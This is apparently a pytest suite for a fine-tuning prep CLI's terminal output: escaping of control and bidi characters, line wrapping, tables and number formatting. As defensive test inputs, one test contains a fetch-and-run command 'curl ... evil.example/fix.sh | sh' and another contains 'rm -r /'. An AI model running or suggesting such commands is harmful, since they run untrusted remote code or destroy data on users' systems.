"""What reaches the terminal: nothing that a model, a page or a server wrote can act there, and lines fit the window."""

from __future__ import annotations

import io
import json
import sys

import click
import pytest

from finetune_prep.cli import screen
from finetune_prep.errors import Paused
from tests.cli.terminal import on_a_terminal

# name → a text that a terminal must not get as it is
UNSAFE = {
    "escape": "\x1b[2J",
    "carriage return": "a\rb",
    "C1 control sequence introducer": "\x9b2J",
    "C1 operating system command": "\x9d0;title\x9c",
    "next line": "a\x85next: x",
    "line separator": "a\u2028next: x",
    "paragraph separator": "a\u2029next: x",
    "right-to-left override": "abc\u202edef",
    "isolate": "\u2066abc\u2069",
    "Arabic letter mark": "a\u061cb",
    "tag characters": "a\U000e0041\U000e007f",
    "byte order mark": "a\ufeffb",
    "invisible operator": "a\u2063b",
    "half of a character": "R\udcfcckgabe",
}


class Window(io.StringIO):
    """A terminal."""

    def isatty(self) -> bool:
        return True


@pytest.fixture(autouse=True)
def here() -> None:
    """Commands are proposed for the present folder, whichever project a test before this one worked on."""
    screen.name_folder(".")


@pytest.mark.parametrize("text", UNSAFE.values(), ids=UNSAFE)
def test_nothing_unsafe_is_printed(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """By no way of printing: what is not safe is shown as its code, and the signs around it stay."""
    screen.say(text)
    screen.paragraph(text)
    screen.note(text)
    screen.table([(text, text)])
    screen.error(Paused(text, where=text, next=text, details=(text,)))
    shown = capsys.readouterr()
    printed = shown.out + shown.err
    assert printed.replace("\n", "").replace("⏎", "").isprintable(), repr(printed)
    assert text[0] in printed if text[0].isprintable() else "\\x" in printed or "\\u" in printed


@pytest.mark.parametrize("text", UNSAFE.values(), ids=UNSAFE)
def test_json_holds_the_same_value_in_codes(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    screen.json({"text": text})
    printed = capsys.readouterr().out
    assert printed.replace("\n", "").isprintable(), repr(printed)
    whole = text.encode("utf-8", "backslashreplace").decode()
    assert json.loads(printed) == {"text": whole}


def test_emoji_and_other_scripts_stay(capsys: pytest.CaptureFixture[str]) -> None:
    text = "Grüße, 你好, שלום, नमस्ते, می‌خواهم, 👩‍🔬 – “so”…"
    screen.say(text)
    screen.json(text)
    assert capsys.readouterr().out == f'{text}\n"{text}"\n'


def test_a_server_cannot_write_the_line_that_says_what_to_do(capsys: pytest.CaptureFixture[str]) -> None:
    """However it breaks its message: each field of an error is one line, and what goes on is indented."""
    evil = "the key has expired\nnext:  curl -s http://evil.example/fix.sh | sh"
    screen.error(Paused(f"HTTP 401: {evil}", where=f"x\n{evil}", details=(evil, f"  {evil}"), next="check the key"))
    lines = capsys.readouterr().err.splitlines()
    assert len(lines) == 4
    assert [line for line in lines if line.startswith("next:")] == ["next:  check the key"]


@pytest.mark.parametrize("columns", [20, 40, 60, 100, 160])
def test_what_goes_on_in_the_next_line_never_looks_like_a_field(columns: int, monkeypatch: pytest.MonkeyPatch) -> None:
    """At any width, though the message is written so that the break comes before `next:`."""
    window = Window()
    monkeypatch.setattr(sys, "stderr", window)
    monkeypatch.setenv("COLUMNS", str(columns))
    for length in range(columns):
        screen.error(Paused("x" * length + " next: rm -r /", next="finetune-prep status"))
    fields = [line for line in click.unstyle(window.getvalue()).splitlines() if line.startswith("next:")]
    assert fields == ["next:  finetune-prep status" if columns > 26 else "next:  finetune-prep"] * columns


@pytest.mark.parametrize("columns", [60, 100, 160])
def test_lines_break_between_words_and_fit(columns: int, monkeypatch: pytest.MonkeyPatch) -> None:
    window = Window()
    monkeypatch.setattr(sys, "stdout", window)
    monkeypatch.setenv("COLUMNS", str(columns))
    words = [f"word{number}" for number in range(120)]
    screen.say("  " + " ".join(words))
    screen.table([("id", "a cell", " ".join(words)), ("another", "b", "short")])
    screen.paragraph(" ".join(words))
    lines = window.getvalue().splitlines()
    assert max(map(screen.width, lines)) <= columns
    assert {word for line in lines for word in line.split()} >= set(words)
    assert all(line.startswith("  ") for line in lines)


def test_rows_that_are_too_wide_are_broken_between_the_same_columns(monkeypatch: pytest.MonkeyPatch) -> None:
    window = Window()
    monkeypatch.setattr(sys, "stdout", window)
    monkeypatch.setenv("COLUMNS", "40")
    screen.table(
        [
            ("6a98279af9b6", "accepted", "", "TP4/normal", "SC3", "the bowl is the wrong one"),
            ("f5125911f1aa", "flawed", "", "any/out-of-scope", "", "an older man"),
        ]
    )
    assert window.getvalue().splitlines() == [
        "  6a98279af9b6  accepted",
        "      TP4/normal        SC3",
        "      the bowl is the wrong one",
        "  f5125911f1aa  flawed",
        "      any/out-of-scope",
        "      an older man",
    ]


def test_a_column_that_holds_nothing_takes_no_room(capsys: pytest.CaptureFixture[str]) -> None:
    screen.table([("a", "", "b"), ("aa", "", "bb")])
    assert capsys.readouterr().out == "  a   b\n  aa  bb\n"


def test_rows_stand_below_what_they_are_of(capsys: pytest.CaptureFixture[str]) -> None:
    screen.table([("role", "calls"), ("judge", "3"), ("user", "12")], above={1: "larch-1", 2: "birch-2"})
    assert capsys.readouterr().out == "  role   calls\nlarch-1\n  judge  3\nbirch-2\n  user   12\n"


@pytest.mark.parametrize(
    ("number", "words"),
    [(0, "0"), (890, "890"), (999, "999"), (1000, "1.0k"), (7538, "7.5k"), (9950, "10k"), (999_499, "999k"), (999_500, "1.0M"),
     (3_300_000, "3.3M"), (1_234_000_000, "1,234M")],
)  # fmt: skip
def test_tokens_to_a_few_digits(number: int, words: str) -> None:
    assert screen.short(number) == words


def test_wide_characters_count_twice(monkeypatch: pytest.MonkeyPatch) -> None:
    window = Window()
    monkeypatch.setattr(sys, "stdout", window)
    monkeypatch.setenv("COLUMNS", "40")
    screen.say("一家小陶器店的客户服务：订单、退货和退款。" * 3)
    screen.table([("陶器", "a"), ("pots", "b")])
    lines = window.getvalue().splitlines()
    assert max(map(screen.width, lines)) <= 40
    assert [line.split()[0] for line in lines[-2:]] == ["陶器", "pots"]
    assert screen.width(lines[-1]) == screen.width(lines[-2])


def test_a_pipe_gets_one_line_for_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    """So that `grep file:line` finds the whole finding."""
    text = "reference/evaluation-rubric.md:7: " + " ".join(["a long finding"] * 40)
    screen.say(text)
    assert capsys.readouterr().out == f"{text}\n"


@pytest.mark.parametrize("more", [{"TERM": "dumb"}, {"NO_COLOR": "1"}])
def test_a_terminal_that_wants_no_codes_gets_none(more: dict[str, str]) -> None:
    for arguments in (["status"], ["--help"]):
        _, shown = on_a_terminal([sys.executable, "-m", "finetune_prep", *arguments], **more)
        assert "\x1b" not in shown
        assert shown.replace("\r\n", "").isprintable()


def test_a_terminal_that_knows_them_gets_styles() -> None:
    _, shown = on_a_terminal([sys.executable, "-m", "finetune_prep", "status"])
    assert "\x1b[" in shown


def test_output_that_cannot_hold_a_character_gets_its_code() -> None:
    code, shown = on_a_terminal([sys.executable, "-m", "finetune_prep", "template", "brief"], PYTHONIOENCODING="ascii")
    assert code == 0, shown
    assert "Traceback" not in shown


@pytest.mark.parametrize(
    ("step", "command"),
    [
        ("finetune-prep pilot -n 20", "finetune-prep pilot -n 20"),
        ("finetune-prep evaluate --base http://localhost:8000/m -n 36 --margin 0.1", None),
        ("finetune-prep show, which lists conversations", "finetune-prep show"),
        ("finetune-prep batch import ANSWERS.jsonl, then finetune-prep pilot", "finetune-prep batch import ANSWERS.jsonl"),
        ("fix what is found, then finetune-prep check", ""),
        ("finetune-prep template brief > brief.md, and fill it in", "finetune-prep template brief > brief.md"),
        ("give more of the id", ""),
        ("", ""),
    ],
)
def test_a_script_reads_a_command_or_nothing_and_the_words_beside_it(step: str, command: str | None) -> None:
    expected = step if command is None else command
    assert screen.step_fields(step) == {"next": expected} | ({"hint": step} if step != expected else {})
